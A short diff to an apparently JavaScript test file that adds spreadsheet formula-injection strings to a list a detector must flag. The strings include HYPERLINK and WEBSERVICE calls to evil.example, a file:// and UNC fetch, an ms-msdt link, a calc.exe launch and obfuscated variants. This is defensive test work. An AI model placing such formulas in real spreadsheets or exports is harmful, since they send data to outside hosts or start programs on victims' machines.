@@ -70,6 +70,7 @@ const fetching = [
   ...['=HYPERLINK("\\\\evil.example\\s";"CV")', '"=HYPERLINK(""c:\\windows\\system32\\calc.exe"")"', '=HYPERLINK(A1)'],
   ...['=HYPERLINK("file://evil.example/x")', '-1+HYPERLINK("fi"&"le://evil.example/x")', '=HYPERLINK("ms-msdt:/id")'],
   ...['=[http://evil.example/a.xls]S!A1', '=com.microsoft.webservice("x")', '=ENCODEURL(INFO("x"))', '=CELL("x",A1)'],
+  ...['=MAP("http://evil.example/"&A1,WEBSERVICE)', '=BYROW(A1:A3,WEBDIENST)', '+HYPERLINK ("file://evil.example/x")'],
 ];
 
 describe.each(Object.entries(around))('a table that fetches something is found by a cell %s', (_, put) => {
